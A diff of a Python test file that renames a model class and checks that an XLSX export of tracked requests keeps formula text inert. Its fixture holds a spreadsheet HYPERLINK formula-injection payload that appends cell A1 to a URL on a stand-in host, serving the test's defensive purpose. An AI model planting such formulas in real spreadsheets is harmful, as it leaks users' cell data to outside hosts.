@@ -12,10 +12,10 @@ import sqlalchemy as sa
 from docx import Document
 from openpyxl import load_workbook
 
+from danvan.calls import Call
 from danvan.conferences.models import Conference, ConferenceInvitee
 from danvan.core.vntext import today_local
 from danvan.extensions import db
-from danvan.plans.models import PlanCall
 from tests.samples.initiatives import make_initiative
 
 LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'
@@ -114,7 +114,7 @@ def test_call_tracking_export_keeps_formula_text_inert_and_dates_real(world, log
     r = issuer.post_form("/yeu-cau/moi", {"title": LINK, "kind": "document", "type_code": "BC",
                                           "deadline": deadline.strftime("%d/%m/%Y"), "target_mode": "communes"})
     assert r.status_code == 303, r.get_data(as_text=True)[:1000]
-    call = db.session.scalar(sa.select(PlanCall).where(PlanCall.title == LINK))
+    call = db.session.scalar(sa.select(Call).where(Call.title == LINK))
     wb = _book(issuer.get(f"/yeu-cau/{call.id}/xlsx"))
     ws = wb.active
     cells = _inert(wb)
